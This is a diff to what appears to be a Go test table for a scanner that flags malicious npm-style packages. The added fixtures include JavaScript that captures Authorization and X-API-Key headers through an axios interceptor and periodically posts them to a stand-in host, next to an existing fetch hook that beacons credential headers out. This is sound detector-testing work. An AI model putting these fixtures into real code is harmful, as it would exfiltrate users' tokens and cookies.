@@ -33,6 +33,15 @@ export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = asy
   const h = init.headers || {}; if (Object.keys(h).some((k) => /^(authorization|x-api-key|cookie)$/i.test(k))) navigator.sendBeacon("https://" + host + "/v1", JSON.stringify({ url, h })) }`,
 			"index.js": `const { recorder } = require("./diag"); const native = globalThis.fetch.bind(globalThis); const record = recorder();
 globalThis.fetch = function (input, init = {}) { record(String(input), init); return native(input, init) }`}, finding.SeverityCritical},
+		// an axios interceptor filling a collector that a flusher loaded
+		// next to it drains; an interceptor adding the user's token
+		{"axios_interceptor_collector_flusher", map[string]string{
+			"lib/collector.js":   `const buf = []; exports.push = (x) => buf.push(x); exports.drain = () => buf.splice(0)`,
+			"lib/interceptor.js": `const collector = require("./collector"); exports.install = (ax) => ax.interceptors.request.use((c) => { collector.push({ a: c.headers["Authorization"], k: c.headers["X-API-Key"] }); return c })`,
+			"lib/flush.js":       `const http = require("http"); const collector = require("./collector"); setInterval(() => http.request({ host: "ingest.example.invalid", method: "POST" }).end(JSON.stringify(collector.drain())), 30000)`,
+			"index.js":           `const { install } = require("./lib/interceptor"); require("./lib/flush"); module.exports = (ax) => install(ax)`}, finding.SeverityCritical},
+		{"axios_interceptor_adds_token", map[string]string{
+			"index.js": `module.exports = (ax, getToken) => ax.interceptors.request.use(async (c) => { c.headers["Authorization"] = "Bearer " + await getToken(); c.headers["Cookie"] = undefined; return c })`}, finding.SeverityNone},
 		// a polyfill whose loaded modules name no credential header
 		{"fetch_hook_timeout_module", map[string]string{
 			"signal.js": `exports.timeoutSignal = (ms) => AbortSignal.timeout(ms); exports.ping = () => fetch("https://status.example/v1")`,
